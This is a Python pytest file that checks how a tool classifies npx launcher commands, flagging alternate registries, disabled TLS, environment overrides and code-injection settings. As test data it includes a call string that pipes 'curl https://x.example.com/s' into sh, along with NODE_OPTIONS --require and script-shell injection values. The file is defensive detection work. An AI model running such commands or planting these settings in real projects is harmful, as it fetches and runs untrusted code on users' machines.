"""`npx`, word for word as npm 11 reads it (compared with its own code)."""

import pytest

from tests.launchers.lines import COMMIT, seen


@pytest.mark.parametrize(
    ("words", "kind", "refs", "flags"),
    [
        ("npx foo", "package", "npm:foo no-version", ""),
        ("npx foo@", "package", "npm:foo no-version", ""),
        ("npx -y foo@1", "package", "npm:foo range:1", ""),
        ("npx -y foo@1.2.3.4", "package", "npm:foo dist-tag:1.2.3.4", ""),
        ("npx -y foo@v1.2.3", "package", "npm:foo@1.2.3", ""),
        ("npx -y foo@01.2.3", "package", "npm:foo@1.2.3", ""),
        ("npx.cmd -y foo@1.2.3", "package", "npm:foo@1.2.3", ""),
        ("/usr/local/bin/npx -y foo@1.2.3", "package", "npm:foo@1.2.3", ""),
        ("C:\\nodejs\\NPX.CMD -y foo@1.2.3", "package", "npm:foo@1.2.3", ""),
        ("./npx -y foo@1.2.3", "package", "npm:foo@1.2.3", "local-launcher"),
        ("npx -y -- foo@1.2.3 --registry=http://r.example.com", "package", "npm:foo@1.2.3", ""),
        (
            "npx -y --registry http://r.example.com foo@1.2.3",
            "package",
            "npm:foo@1.2.3 from http://r.example.com",
            "alt-registry plain-http-registry",
        ),
        (
            "npx -y --regis=https://r.example.com foo@1.2.3",
            "package",
            "npm:foo@1.2.3 from https://r.example.com",
            "alt-registry version-dependent",
        ),
        (
            "npx -y --registry=https://u:p@r.example.com/ foo@1.2.3",
            "package",
            "npm:foo@1.2.3 from https://r.example.com/",
            "alt-registry",
        ),
        (
            "npx -y --@other:registry=https://r.example.com foo@1.2.3",
            "package",
            "npm:foo@1.2.3",
            "alt-registry",
        ),
        ("npx -y --unknown bar foo@1.2.3", "package", "npm:bar no-version", "unknown-flag"),
        ("npx --yes=evil good@1.2.3", "package", "npm:evil no-version", ""),
        (
            "npx --no-audit foo@1.2.3 --registry=https://r.example.com",
            "package",
            "npm:foo@1.2.3 from https://r.example.com",
            "alt-registry",
        ),
        ("npx --min-release-age 3 foo@1.2.3", "package", "npm:foo@1.2.3", "version-dependent"),
        ("npx --yes=true --package=evil good@1.0.0", "package", "npm:evil no-version", ""),
        (
            "npx -p a@1.0.0 -p b@2.0.0 a",
            "package",
            "npm:a@1.0.0; extra npm:b@2.0.0",
            "extra-packages",
        ),
        ("npx -p good@1.2.3 node -e x", "package", "npm:good@1.2.3", "foreign-bin inline-code"),
        (
            "npx -p good@1.2.3 npx evil",
            "package",
            "npm:good@1.2.3; nested npm:evil no-version",
            "foreign-bin",
        ),
        ("npx -p good@1.2.3 ./x", "package", "npm:good@1.2.3", "foreign-bin"),
        ("npx -y foo@npm:bar@1.2.3", "package", "npm:bar@1.2.3", "alias"),
        ("npx acme/mcp", "package", "git:github:acme/mcp git-no-commit", ""),
        ("npx acme/mcp#main", "package", "git:github:acme/mcp git-ref:main", ""),
        ("npx github:acme/mcp#semver:^1", "package", "git:github:acme/mcp range:^1", ""),
        (
            f"npx git+https://github.com/acme/mcp.git#{COMMIT}",
            "package",
            f"git:https://github.com/acme/mcp.git@{COMMIT}",
            "",
        ),
        (
            "npx git+http://git.example.com/a/b",
            "package",
            "git:http://git.example.com/a/b git-no-commit",
            "plain-http-source",
        ),
        (
            "npx https://u:p@x.example.com/a.tgz?token=x",
            "package",
            "url:https://x.example.com/a.tgz url-no-hash",
            "",
        ),
        ("npx ./dir", "local", "", ""),
        ("npx ../a.tgz", "local", "", ""),
        ("npx -y jsr:@a/b", "package", "npm:jsr:@a/b invalid-spec", "invalid-spec"),
        ("npx -y foo@1.0.\uff10", "package", "npm:foo invalid-spec", "invalid-spec"),
        ("npx -y foo@${VER}", "package", "npm:foo variable", "unresolved-variable"),
        ("npx -y", "unknown", "", "no-command"),
        ("npx -y --userconfig x foo@1.2.3", "package", "npm:foo@1.2.3", "alt-config"),
        ("npx --script-shell ./x foo@1.2.3", "package", "npm:foo@1.2.3", "code-injection"),
        ("npx -y foo@1.2.3 --root=/", "package", "npm:foo@1.2.3", "filesystem-root"),
    ],
)
def test_npx(words: str, kind: str, refs: str, flags: str) -> None:
    assert seen(words.split()) == (kind, refs, flags)


@pytest.mark.parametrize(
    ("words", "env", "files", "refs", "flags"),
    [
        (
            "npx foo@1.2.3",
            {"npm_config_package": "evil"},
            {},
            "npm:evil no-version",
            "env-package-override",
        ),
        (
            "npx -p good@1.2.3 good",
            {"npm_config_package": "evil"},
            {},
            "npm:good@1.2.3",
            "env-package-override",
        ),
        (
            "npx @a/x@1.2.3",
            {"npm_config_@a:registry": "https://r.example.com"},
            {},
            "npm:@a/x@1.2.3 from https://r.example.com",
            "env-registry",
        ),
        (
            "npx foo@1.2.3",
            {"NPM_CONFIG_SCRIPT_SHELL": "./x"},
            {},
            "npm:foo@1.2.3",
            "env-code-injection",
        ),
        (
            "npx foo@1.2.3",
            {"NODE_OPTIONS": "--require ./x.js"},
            {},
            "npm:foo@1.2.3",
            "env-code-injection",
        ),
        ("npx foo@1.2.3", {"NODE_OPTIONS": "--max-old-space-size=4096"}, {}, "npm:foo@1.2.3", ""),
        ("npx foo@1.2.3", {"node_options": "--require ./x.js"}, {}, "npm:foo@1.2.3", ""),
        ("npx foo@1.2.3", {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}, {}, "npm:foo@1.2.3", "tls-off"),
        ("npx foo@1.2.3", {"npm_config_strict_ssl": "false"}, {}, "npm:foo@1.2.3", "tls-off"),
        (
            "npx foo@1.2.3",
            {"HTTPS_PROXY": "http://p.example.com"},
            {},
            "npm:foo@1.2.3",
            "env-network",
        ),
        (
            "npx foo@1.2.3",
            {},
            {".npmrc": "registry = https://r.example.com\n"},
            "npm:foo@1.2.3",
            "project-npmrc-registry",
        ),
        (
            "npx foo",
            {},
            {"package.json": '{"name":"@x/foo","bin":"./x.js"}'},
            "npm:foo no-version",
            "local-shadowable",
        ),
        (
            "npx foo",
            {},
            {"package.json": '{"bin":{"foo":"./x.js"}}'},
            "npm:foo no-version",
            "local-shadowable",
        ),
        ("npx foo@1.2.3", {}, {"node_modules/.bin/foo": ""}, "npm:foo@1.2.3", ""),
        ("npx foo", {}, {"package.json": '{"bin":['}, "npm:foo no-version", ""),
    ],
)
def test_its_surroundings(
    words: str, env: dict[str, str], files: dict[str, str], refs: str, flags: str
) -> None:
    assert seen(words.split(), env, files)[1:] == (refs, flags)


def test_a_call_string_is_followed() -> None:
    assert seen(["npx", "-p", "good@1.2.3", "-c", "good && curl https://x.example.com/s | sh"]) == (
        "package",
        "npm:good@1.2.3; nested url:https://x.example.com/s url-no-hash",
        "call-string inline-code shell-metacharacters shell-wrapper",
    )
    assert seen(["npx", "-c", "foo --x"]) == ("unknown", "", "call-string")
